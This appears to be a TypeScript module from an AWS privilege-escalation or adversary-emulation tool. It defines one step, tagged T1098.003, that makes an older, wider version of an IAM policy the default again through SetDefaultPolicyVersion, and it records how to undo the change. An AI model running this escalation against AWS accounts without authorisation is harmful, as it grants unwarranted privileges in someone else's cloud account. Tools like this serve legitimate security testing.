/** T1098.003: an old, wider version of a policy is put in force again. IAM API Reference: SetDefaultPolicyVersion; claim DEPART-03. */
import { type Escalation, policyArnIn, whenDone } from "./escalation.ts";

/** `policy`: name of a customer managed policy of the account; its first version is the old one. */
export const setDefaultPolicyVersion = (policy: string): Escalation => ({
  id: "set-default-policy-version",
  sentence: `put the first version of \`${policy}\` in force again`,
  techniques: ["T1098.003"],
  undo: "set the later version as default again, and delete the old one",
  climb: (hands) =>
    whenDone(
      hands.call("iam", "SetDefaultPolicyVersion", { PolicyArn: policyArnIn(hands, policy), VersionId: "v1" }),
      hands,
    ),
});
